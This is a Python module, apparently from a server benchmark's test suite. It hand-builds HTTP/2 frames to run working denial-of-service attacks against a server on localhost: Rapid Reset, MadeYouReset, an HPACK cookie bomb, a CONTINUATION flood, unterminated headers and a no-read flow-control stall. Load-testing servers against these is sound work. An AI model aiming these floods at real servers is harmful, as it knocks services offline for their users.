"""python -m bench.attack_h2: the attack suite's HTTP/2 hostile clients (h2c, prior knowledge), run as
their own process pinned to the load generator's core by the runner, as bench/attack.py's are. Every
frame is written by hand (the few lines of RFC 9113 and RFC 7541 they need are here): the attacks
send what a conforming client library refuses to.

Modes (each keeps CONNS connections and opens a new one for each the server ends):
  h2-noread       windows opened wide (SETTINGS_INITIAL_WINDOW_SIZE and the connection's window to
                  2^31-1), `GET PATH` (the 8 MiB /big of big_wsgi.py and big_asgi.py) from a socket
                  with a small receive buffer, then nothing is ever read; a PING on each connection
                  every INTERVAL seconds. A connection the server closes (its send timeout) is seen in
                  its TCP state or by a failing write, checked at each PING.
  h2-madeyoureset server-side resets ("MadeYouReset", CVE-2025-8671): `POST /` HEADERS declaring
                  content-length: 1, then 2 bytes of DATA with END_STREAM, stream after stream, RATE
                  streams a second per connection: the server must reset each stream itself.
  h2-rapidreset   client rapid reset (CVE-2023-44487): `GET /` HEADERS, then RST_STREAM (CANCEL) at
                  once, stream after stream, RATE streams a second per connection.
  h2-cookiebomb   HPACK amplification: a 4 KB cookie put into the dynamic table once, then 100
                  streams whose 4.3 KB header blocks name it 207 times (826 KB of Cookie each when
                  decoded); a connection is ended by the client once all 100 are answered, and the
                  next one opens INTERVAL seconds after it opened.
  h2-halfheaders  HEADERS without END_HEADERS and nothing after: a header block that never ends.
  h2-continuation the CONTINUATION flood: HEADERS without END_HEADERS, then CONTINUATION frames that
                  never end the block, each a 1 KB literal field, RATE frames a second per connection.

The reading modes (all but h2-noread) open the connection's receive window at the start, answer the
server's SETTINGS and PINGs, and read every frame: GOAWAYs are counted by error code, RST_STREAMs,
and the responses' :status (h2-cookiebomb decodes the server's header blocks for it). A connection
ends when the server sends GOAWAY (the client closes it then) or closes it.

Prints `ready <n>` once every connection is open and its first frames are sent, then, on SIGTERM or
after --seconds, one JSON line of counters: connects, reconnects (connections opened in place of one
that ended), server_closed (connections the server ended: GOAWAY, FIN or reset), goaways by code,
streams opened, resets received, responses (by status where decoded), bytes sent.
"""
import argparse
import json
import selectors
import signal
import socket
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8, 0x9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
SETTINGS_ENABLE_PUSH, SETTINGS_INITIAL_WINDOW_SIZE = 0x2, 0x4
MAX_WINDOW = 2**31 - 1
CANCEL = 0x8
ERROR_CODES = ("NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT",
               "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR",
               "CONNECT_ERROR", "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED")
BLOCK_MODES = ("h2-halfheaders", "h2-continuation")
MODES = ("h2-noread", "h2-madeyoureset", "h2-rapidreset", "h2-cookiebomb", "h2-halfheaders", "h2-continuation")
BURST_S = 0.05  # the streams (frames) of RATE are sent in bursts this far apart
OUT_LIMIT = 256 * 1024  # no new burst for a connection while this much of its output is unsent
COOKIE_STREAMS, COOKIE_BYTES, COOKIE_REFS = 100, 4000, 207
FLOOD_VALUE = b"a" * 1000
TCP_CLOSE, TCP_CLOSE_WAIT = 7, 8  # linux/tcp_states.h; tcp_info's first byte is the state


def frame(ftype, flags, stream_id, payload):
    """One HTTP/2 frame (RFC 9113 4.1)."""
    return len(payload).to_bytes(3, "big") + bytes([ftype, flags]) + (stream_id & 0x7FFFFFFF).to_bytes(4, "big") + payload


def settings(*pairs):
    return frame(SETTINGS, 0, 0, b"".join(k.to_bytes(2, "big") + v.to_bytes(4, "big") for k, v in pairs))


def hpack_int(n, prefix, first=0):
    """An HPACK integer (RFC 7541 5.1) with `prefix` bits, first: the bits above it."""
    top = (1 << prefix) - 1
    if n < top:
        return bytes([first | n])
    out, n = [first | top], n - top
    while n >= 128:
        out.append((n % 128) + 128)
        n //= 128
    return bytes(out + [n])


def literal(name, value):
    """A field line: literal without indexing, new name (RFC 7541 6.2.2)."""
    return b"\x00" + hpack_int(len(name), 7) + name + hpack_int(len(value), 7) + value


def literal_indexed_name(index, value):
    """A field line: literal without indexing, name from the static table."""
    return hpack_int(index, 4) + hpack_int(len(value), 7) + value


def authority(port):
    return literal_indexed_name(1, f"127.0.0.1:{port}".encode())  # :authority


def get_block(port, path="/"):
    # :method GET, :scheme http (static 2 and 6), :path, :authority
    p = b"\x84" if path == "/" else literal_indexed_name(4, path.encode())
    return b"\x82\x86" + p + authority(port)


def post_block(port):
    # :method POST, :path /, :scheme http, :authority, content-length: 1 (static 28)
    return b"\x83\x84\x86" + authority(port) + literal_indexed_name(28, b"1")


def cookie_blocks(port, streams=COOKIE_STREAMS, refs=COOKIE_REFS):
    """The first block adds a 4 KB cookie to the dynamic table (literal with incremental indexing: index
    62); every block names it `refs` times (0xbe, one byte each)."""
    base = b"\x82\x84\x86" + authority(port)
    entry = b"\x40" + b"\x06cookie" + hpack_int(COOKIE_BYTES, 7) + b"c" * COOKIE_BYTES
    return [base + (entry if i == 0 else b"") + b"\xbe" * refs for i in range(streams)]


def tcp_state(s):
    try:
        return s.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)[0]
    except OSError:
        return TCP_CLOSE


class Conn:
    def __init__(self, sock, opened):
        self.sock, self.opened = sock, opened
        self.out = bytearray()
        self.inbuf = b""
        self.next_sid = 1
        self.ended = False  # the server ended it (counted once)
        self.answered = 0  # h2-cookiebomb: streams answered (a :status or RST_STREAM)
        self.block = b""  # a header block being received (HEADERS without END_HEADERS)
        # h2-halfheaders, h2-continuation: the never-ending HEADERS waits for the server's SETTINGS, so
        # that their ACK goes first: no frame but CONTINUATION may follow it on the connection.
        self.head_pending = False
        self.in_block = False
        self.decoder = None


class H2Attack:
    def __init__(self, port, mode, conns, interval=1.0, rate=1000, path="/big", rcvbuf=16384):
        self.port, self.mode, self.n, self.interval, self.rate = port, mode, conns, interval, rate
        self.path, self.rcvbuf = path, rcvbuf
        self.sel = selectors.DefaultSelector()
        self.slots = []  # a Conn, or the monotonic time at which to open the next one in its place
        self.reads = mode != "h2-noread"
        self.counters = {"mode": mode, "connections": conns, "connects": 0, "reconnects": 0, "server_closed": 0,
                         "goaways": {}, "streams": 0, "resets_received": 0, "responses": {}, "frames_sent": 0,
                         "bytes_sent": 0, "interval_s": interval, "rate": rate if mode in self.RATED else None}
        if mode == "h2-cookiebomb":
            self.cookie_blocks = cookie_blocks(port)
            self.counters["cookie_block_bytes"] = sum(len(b) for b in self.cookie_blocks)

    RATED = ("h2-madeyoureset", "h2-rapidreset", "h2-continuation")

    # -- connections

    def open_one(self):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if self.mode == "h2-noread":
            # Before connect, so that the window the client advertises is small from the first segment.
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self.rcvbuf)
        s.settimeout(5)
        try:
            s.connect(("127.0.0.1", self.port))
        except OSError:
            s.close()
            raise
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        s.setblocking(False)
        c = Conn(s, time.monotonic())
        self.counters["connects"] += 1
        if self.mode == "h2-noread":
            first = settings((SETTINGS_ENABLE_PUSH, 0), (SETTINGS_INITIAL_WINDOW_SIZE, MAX_WINDOW))
            first += frame(WINDOW_UPDATE, 0, 0, (MAX_WINDOW - 65535).to_bytes(4, "big"))
            first += frame(HEADERS, END_STREAM | END_HEADERS, 1, get_block(self.port, self.path))
            self.counters["streams"] += 1
        else:
            first = settings((SETTINGS_ENABLE_PUSH, 0))
            first += frame(WINDOW_UPDATE, 0, 0, (MAX_WINDOW - 65535).to_bytes(4, "big"))
        self.queue(c, PREFACE + first, frames=3)
        if self.mode == "h2-cookiebomb":
            import hpack

            c.decoder = hpack.Decoder()
            c.decoder.max_allowed_table_size = 65536
            self.queue(c, b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, b)
                                   for i, b in enumerate(self.cookie_blocks)), frames=len(self.cookie_blocks))
            self.counters["streams"] += len(self.cookie_blocks)
        elif self.mode in BLOCK_MODES:
            c.head_pending = True  # sent once the server's SETTINGS are acknowledged (below)
        if self.reads:
            self.sel.register(s, selectors.EVENT_READ, c)
        self.flush(c)
        return c

    def end(self, i, by_server):
        """Connection i is over: closed here, and a new one due (at once, or INTERVAL after the old one
        opened for h2-cookiebomb)."""
        c = self.slots[i]
        if by_server and not c.ended:
            self.counters["server_closed"] += 1
        if self.reads:
            try:
                self.sel.unregister(c.sock)
            except (KeyError, ValueError):
                pass
        c.sock.close()
        due = c.opened + self.interval if self.mode == "h2-cookiebomb" else time.monotonic()
        self.slots[i] = due

    def reopen_due(self):
        now = time.monotonic()
        for i, slot in enumerate(self.slots):
            if not isinstance(slot, Conn) and slot <= now:
                try:
                    self.slots[i] = self.open_one()
                    self.counters["reconnects"] += 1
                except OSError:
                    self.slots[i] = now + 0.1  # refused (a full backlog): try again shortly

    # -- output

    def queue(self, c, data, frames=1):
        c.out += data
        self.counters["frames_sent"] += frames

    def flush(self, c):
        """Send what the socket takes now; False when the server has closed it."""
        while c.out:
            try:
                n = c.sock.send(c.out)
            except (BlockingIOError, InterruptedError):
                return True
            except OSError:
                return False
            self.counters["bytes_sent"] += n
            del c.out[:n]
        return True

    def burst(self, c, k):
        """k streams (frames) of the rated modes on connection c."""
        out = []
        sid = c.next_sid
        if self.mode == "h2-madeyoureset":
            block = post_block(self.port)
            for _ in range(k):
                out.append(frame(HEADERS, END_HEADERS, sid, block) + frame(DATA, END_STREAM, sid, b"ab"))
                sid += 2
        elif self.mode == "h2-rapidreset":
            block = get_block(self.port)
            for _ in range(k):
                out.append(frame(HEADERS, END_STREAM | END_HEADERS, sid, block)
                           + frame(RST_STREAM, 0, sid, CANCEL.to_bytes(4, "big")))
                sid += 2
        else:  # h2-continuation: one endless header block on stream 1
            for j in range(k):
                name = f"x-flood-{c.next_sid + j}".encode()
                out.append(frame(CONTINUATION, 0, 1, literal(name, FLOOD_VALUE)))
        if self.mode == "h2-continuation":
            c.next_sid += k  # only names the fields
        else:
            self.counters["streams"] += k
            c.next_sid = sid
        self.queue(c, b"".join(out), frames=2 * k if self.mode != "h2-continuation" else k)

    # -- input

    def on_readable(self, c, i):
        try:
            data = c.sock.recv(262144)
        except (BlockingIOError, InterruptedError):
            return
        except OSError:
            data = b""
        if not data:
            self.end(i, by_server=True)
            return
        buf = c.inbuf + data
        pos = 0
        while len(buf) - pos >= 9:
            ln = int.from_bytes(buf[pos:pos + 3], "big")
            if len(buf) - pos < 9 + ln:
                break
            ftype, flags = buf[pos + 3], buf[pos + 4]
            sid = int.from_bytes(buf[pos + 5:pos + 9], "big") & 0x7FFFFFFF
            payload = buf[pos + 9:pos + 9 + ln]
            pos += 9 + ln
            if self.on_frame(c, ftype, flags, sid, payload):
                self.end(i, by_server=False)  # after a GOAWAY: the client lets it go
                return
        c.inbuf = buf[pos:]
        if self.mode == "h2-cookiebomb" and c.answered >= len(self.cookie_blocks):
            self.end(i, by_server=False)

    def on_frame(self, c, ftype, flags, sid, payload):
        """True when the connection is over (GOAWAY)."""
        if ftype == SETTINGS and not flags & ACK and not c.in_block:
            self.queue(c, frame(SETTINGS, ACK, 0, b""))
            if c.head_pending:
                self.queue(c, frame(HEADERS, END_STREAM, 1, get_block(self.port)))
                self.counters["streams"] += 1
                c.head_pending, c.in_block = False, True
        elif ftype == PING and not flags & ACK and not c.in_block:
            self.queue(c, frame(PING, ACK, 0, payload))
        elif ftype == GOAWAY:
            code = int.from_bytes(payload[4:8], "big") if len(payload) >= 8 else -1
            name = ERROR_CODES[code] if 0 <= code < len(ERROR_CODES) else str(code)
            self.counters["goaways"][name] = self.counters["goaways"].get(name, 0) + 1
            self.counters["server_closed"] += 1
            c.ended = True
            return True
        elif ftype == RST_STREAM:
            self.counters["resets_received"] += 1
            c.answered += 1
        elif ftype in (HEADERS, CONTINUATION):
            if ftype == HEADERS:
                if flags & 0x8:  # PADDED
                    payload = payload[1:len(payload) - payload[0]]
                if flags & 0x20:  # PRIORITY
                    payload = payload[5:]
                c.block = payload
            else:
                c.block += payload
            if flags & END_HEADERS:
                self.on_response_head(c, c.block)
                c.block = b""
        return False

    def on_response_head(self, c, block):
        status = "head"
        if c.decoder is not None:  # h2-cookiebomb: the dynamic table kept in step, the :status read
            try:
                fields = dict(c.decoder.decode(block, raw=True))
                status = fields.get(b":status", b"?").decode()
            except Exception:  # noqa: BLE001 (a block we cannot decode still counts as an answer)
                status = "undecoded"
        c.answered += 1
        self.counters["responses"][status] = self.counters["responses"].get(status, 0) + 1

    # -- the loop

    def run(self, seconds, stop):
        self.slots = [self.open_one() for _ in range(self.n)]
        print(f"ready {len(self.slots)}", flush=True)
        deadline = time.monotonic() + seconds
        # h2-noread: one connection's PING (and its check) per step, spread evenly over the interval.
        step = self.interval / max(1, self.n) if self.mode == "h2-noread" else BURST_S
        per_burst = max(1, round(self.rate * BURST_S))
        nxt = time.monotonic()
        i = 0
        while not stop() and time.monotonic() < deadline:
            timeout = max(0.0, min(nxt - time.monotonic(), 0.05))
            events = self.sel.select(timeout) if self.sel.get_map() else time.sleep(timeout) or []
            for key, _ in events:
                c = key.data
                idx = next((k for k, s in enumerate(self.slots) if s is c), None)
                if idx is not None:
                    self.on_readable(c, idx)
            now = time.monotonic()
            if now >= nxt:
                if self.mode == "h2-noread":
                    k = i % len(self.slots)
                    c = self.slots[k]
                    if isinstance(c, Conn):
                        if tcp_state(c.sock) in (TCP_CLOSE, TCP_CLOSE_WAIT):  # the server gave up on it
                            self.end(k, by_server=True)
                        else:
                            self.queue(c, frame(PING, 0, 0, i.to_bytes(8, "big")))
                    i += 1
                elif self.mode in self.RATED:
                    for c in self.slots:
                        if isinstance(c, Conn) and len(c.out) < OUT_LIMIT and not c.head_pending:
                            self.burst(c, per_burst)
                nxt += step
                if nxt < now - 1.0:  # fell behind (a stalled host): do not catch up in one rush
                    nxt = now + step
            for k, c in enumerate(self.slots):
                if isinstance(c, Conn) and c.out and not self.flush(c):
                    self.end(k, by_server=True)
            self.reopen_due()
        for c in self.slots:
            if isinstance(c, Conn):
                c.sock.close()
        return self.counters


def main(argv=None):
    ap = argparse.ArgumentParser(prog="python -m bench.attack_h2", description=__doc__,
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--mode", choices=MODES, required=True)
    ap.add_argument("--conns", type=int, default=1)
    ap.add_argument("--interval", type=float, default=1.0, help="h2-noread: seconds between two PINGs on one "
                    "connection; h2-cookiebomb: seconds from one connection's opening to the next's")
    ap.add_argument("--rate", type=int, default=1000, help="h2-madeyoureset, h2-rapidreset: streams a second per "
                    "connection; h2-continuation: CONTINUATION frames a second per connection")
    ap.add_argument("--path", default="/big", help="h2-noread: the path of the large response")
    ap.add_argument("--rcvbuf", type=int, default=16384, help="h2-noread: SO_RCVBUF of each connection")
    ap.add_argument("--seconds", type=float, default=600.0)
    args = ap.parse_args(argv)
    stopping = []
    signal.signal(signal.SIGTERM, lambda *_: stopping.append(1))
    attack = H2Attack(args.port, args.mode, args.conns, args.interval, args.rate, args.path, args.rcvbuf)
    counters = attack.run(args.seconds, lambda: bool(stopping))
    print(json.dumps(counters), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
